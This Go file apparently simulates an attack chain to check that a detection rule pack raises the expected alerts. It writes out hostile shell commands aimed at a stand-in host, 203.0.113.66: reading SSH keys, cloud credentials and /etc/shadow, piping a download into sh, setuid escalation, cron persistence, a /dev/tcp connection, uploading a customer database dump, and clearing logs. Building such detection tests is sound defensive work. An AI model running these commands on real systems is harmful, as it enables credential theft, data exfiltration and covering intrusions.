package main

import (
	"fmt"
	"time"
)

// pause between two steps, so that a person sees which alert belongs to which.
const pause = 800 * time.Millisecond

// installScript is what the attacker pipes into a shell.
const installScript = `#!/bin/sh
set -e
curl -s -o /tmp/agent http://203.0.113.66/agent
chmod 755 /tmp/agent
cp /tmp/agent /dev/shm/agent
/tmp/agent version
/dev/shm/agent version
`

// step is one move of the attacker: a command for the server's shell, and the rules
// of the built-in pack that are to see it.
type step struct {
	title   string
	command string
	rules   []string
}

func steps() []step {
	return []step{
		{"the web server is made to run a shell",
			"id && uname -a",
			[]string{"Shell Spawned by Server Process", "System Examined below Server"}},
		{"secrets are hunted for and read",
			"find /home /root -name id_rsa && cat /home/app/.ssh/id_rsa /root/.aws/credentials /etc/shadow",
			[]string{"Search for Private Keys", "Private Key or Cloud Credentials Read", "Password Hashes Read"}},
		{"a script is fetched and run: it drops a program in /tmp and /dev/shm",
			"curl -s http://203.0.113.66/install.sh | sh",
			[]string{"Download Run at Once", "Downloader Spawned by Server Process", "Dropped File Made Executable",
				"Program Run from Temporary Folder", "Program Run from Shared Memory", "Downloaded Program Run"}},
		{"root is taken back by a program with the setuid bit",
			"chmod 4755 /tmp/agent && /dev/shm/agent drop /tmp/agent raise",
			[]string{"Setuid Bit Set", "Privileges Raised outside of sudo"}},
		{"persistence: a cron job and a program among the system's",
			"echo '* * * * * root /dev/shm/agent' > /etc/cron.d/update && cp /dev/shm/agent /usr/local/bin/update",
			[]string{"Scheduled Task Written", "Write below etc", "Write below Binary Folder"}},
		{"the shell itself connects outside",
			"bash -c 'echo hello > /dev/tcp/203.0.113.66/443'",
			[]string{"Outbound Connection by Shell", "Shell Attached to Connection", "Data Sent Outside by Shell Tool"}},
		{"a beacon calls home ten times",
			"/dev/shm/agent beacon 203.0.113.66:443",
			[]string{"Outbound Connection by Dropped Program or Inline Script", "Beacon of Dropped Program or Inline Script"}},
		{"a database dump is read and 8 MiB are uploaded",
			"cat /srv/backup/customers.sql > /tmp/loot && head -c 8388608 /dev/zero >> /tmp/loot && curl -s -T /tmp/loot http://203.0.113.66/loot",
			[]string{"Database Dump Read", "File Uploaded by Command", "Large Upload to Outside Address",
				"Data Sent Outside after Secret was Read"}},
		{"logs and the shell's history are cleared",
			": > /var/log/auth.log && rm /var/log/app.log /root/.bash_history",
			[]string{"Logs Cleared", "Shell History Cleared"}},
	}
}

// attack plays the steps against the victim.
func attack(v *victim) error {
	for i, s := range steps() {
		fmt.Printf("\n-- %d. %s\n   $ %s\n", i+1, s.title, s.command)
		if err := v.inject(s.command); err != nil {
			return fmt.Errorf("step %d: %w", i+1, err)
		}
		time.Sleep(pause)
	}
	return nil
}
